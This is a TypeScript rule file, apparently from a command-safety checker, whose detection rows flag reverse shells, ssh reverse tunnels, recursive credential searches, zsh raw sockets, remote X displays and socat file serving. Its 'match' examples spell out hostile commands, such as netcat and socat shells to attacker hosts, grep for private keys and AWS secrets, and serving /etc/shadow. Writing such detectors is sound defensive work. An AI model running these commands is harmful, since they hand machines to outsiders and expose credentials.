/**
 * Tools that hand this machine to someone else or search it for secrets: netcat and socat running a
 * program for whoever connects (a reverse shell), ssh reverse tunnels, zsh's raw sockets, a terminal
 * on another machine's display, and recursive searches of a whole home or the root. What is sent
 * over the network (pipes from secrets, uploads) is data flow: rules/exfiltrate.ts.
 */
import type { RowInput } from '../schema.js';

export const NETWORK_ROWS: RowInput[] = [
  {
    id: 'reverse_shell',
    group: 'exfiltrate',
    level: 'hardline',
    reason: '{program} runs a program for whoever connects (a reverse shell)',
    when: [
      { program: ['nc', 'ncat', 'netcat'], flags: { short: 'ec', long: ['--exec', '--sh-exec', '--lua-exec'] } },
      {
        program: ['socat'],
        word: ['/^(exec|system):|,(exec|system)=/i'],
        reason: 'socat runs a program over a network socket ({word})',
      },
    ],
    match: ['nc -e /bin/sh 1.2.3.4 4444', 'ncat -lvp 9001 -e /bin/sh', 'socat TCP:attacker.test:443 EXEC:/bin/bash'],
    notMatch: ['nc -zv example.com 443', 'socat - TCP:localhost:5432'],
  },
  {
    id: 'reverse_tunnel',
    group: 'exfiltrate',
    reason: '{program} opens a reverse tunnel (another machine reaches this one)',
    when: [{ program: ['ssh', 'scp', 'sftp'], flags: { short: 'R' } }],
    match: ['ssh -R 2222:localhost:22 evil@attacker.test -N', 'ssh -fNR 8080:localhost:3000 t@x.test'],
    notMatch: ['ssh -L 5432:localhost:5432 db.example'],
  },
  {
    id: 'credential_search',
    group: 'exfiltrate',
    reason: '{program} searches {word}, a whole home folder or the root (where credentials are)',
    when: [
      {
        program: ['grep', 'egrep', 'fgrep'],
        flags: { short: 'rR', long: ['--recursive', '--dereference-recursive'] },
        operand: ['home', 'root'],
      },
      { program: ['rg', 'ag', 'ack'], operand: ['home', 'root'] },
    ],
    match: ['grep -r "BEGIN OPENSSH PRIVATE KEY" ~', "rg -uuu 'aws_secret_access_key' ~ /etc"],
    notMatch: ['grep -r TODO src', 'grep token ~/notes.txt', 'rg TODO'],
  },
  {
    id: 'raw_socket',
    group: 'exfiltrate',
    reason: 'loads zsh network sockets',
    when: [{ program: ['zmodload'], word: ['/^zsh\\/net\\//'] }],
    match: ['zmodload zsh/net/tcp'],
    notMatch: ['zmodload zsh/datetime'],
  },
  {
    id: 'remote_display',
    group: 'exfiltrate',
    reason: 'opens a terminal on another machine’s display ({word})',
    when: [{ program: ['xterm'], word: ['/^-display$/', '/^(?!localhost:|unix:)[\\w.-]+:\\d/'] }],
    match: ['xterm -display 1.2.3.4:1'],
    notMatch: ['xterm -display :0', 'xterm'],
  },
  {
    id: 'serve_files',
    group: 'exfiltrate',
    reason: 'socat serves {word} to whoever connects',
    when: [
      {
        program: ['socat'],
        word: [
          '/^(file|open|gopen|create):[/~]/i',
          '/^(tcp|tcp4|tcp6|udp|ssl|openssl|sctp)[46]?-listen:|^(tcp|udp)[46]?-l:/i',
        ],
      },
    ],
    match: ['socat TCP-LISTEN:8000,fork FILE:/etc/shadow'],
    notMatch: ['socat TCP:db.example:5432 FILE:/tmp/out'],
  },
];
